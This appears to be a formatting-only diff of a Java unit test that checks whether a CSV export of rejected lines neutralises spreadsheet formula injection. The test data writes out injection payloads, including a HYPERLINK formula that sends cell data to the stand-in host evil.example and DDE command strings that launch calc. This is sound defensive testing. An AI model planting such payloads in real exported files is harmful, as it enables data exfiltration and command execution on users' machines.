@@ -18,8 +18,9 @@ class RejectedLinesCsvTest {
     void quotesEveryFieldAndKeepsTheRawLineInOneCell() {
         String csv = csv(new Rejected(4, "cardCheckDigit", "1234;2026-11-20T10:00;101000;=HYPERLINK(\"http://x\")"));
 
-        assertThat(csv).isEqualTo("\"line\";\"reason\";\"content\"\r\n"
-                + "\"4\";\"cardCheckDigit\";\"1234;2026-11-20T10:00;101000;=HYPERLINK(\"\"http://x\"\")\"\r\n");
+        assertThat(csv)
+                .isEqualTo("\"line\";\"reason\";\"content\"\r\n"
+                        + "\"4\";\"cardCheckDigit\";\"1234;2026-11-20T10:00;101000;=HYPERLINK(\"\"http://x\"\")\"\r\n");
     }
 
     @Test
@@ -35,8 +36,16 @@ class RejectedLinesCsvTest {
 
         List<CSVRecord> records = parse(csv(hostile.toArray(Rejected[]::new)));
 
-        assertThat(records).extracting(r -> r.get(2)).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")",
-                "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1+1", "'\r=1+1", "ok");
+        assertThat(records)
+                .extracting(r -> r.get(2))
+                .containsExactly(
+                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")",
+                        "'+cmd|' /C calc'!A0",
+                        "'-2+3",
+                        "'@SUM(1+1)*cmd|' /C calc'!A0",
+                        "'\t=1+1",
+                        "'\r=1+1",
+                        "ok");
         assertThat(records).extracting(r -> r.get(1)).endsWith("'=reason");
         assertThat(records).extracting(r -> r.get(0)).containsExactly("2", "3", "4", "5", "6", "7", "8");
     }
@@ -56,12 +65,12 @@ class RejectedLinesCsvTest {
 
     @Test
     void leavesAnOrdinaryLineAsItWas() {
-        assertThat(RejectedLinesCsv.neutralised("0000123;2026-11-20;101000;150.00")).isEqualTo("0000123;2026-11-20;101000;150.00");
+        assertThat(RejectedLinesCsv.neutralised("0000123;2026-11-20;101000;150.00"))
+                .isEqualTo("0000123;2026-11-20;101000;150.00");
         assertThat(RejectedLinesCsv.neutralised("")).isEmpty();
     }
 
-    private record Rejected(long lineNo, String reason, String rawLine) {
-    }
+    private record Rejected(long lineNo, String reason, String rawLine) {}
 
     private static String csv(Rejected... lines) {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
@@ -74,7 +83,13 @@ class RejectedLinesCsvTest {
     }
 
     private static List<CSVRecord> parse(String csv) throws IOException {
-        return CSVFormat.DEFAULT.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(csv)).getRecords();
+        return CSVFormat.DEFAULT
+                .builder()
+                .setDelimiter(';')
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(csv))
+                .getRecords();
     }
 }
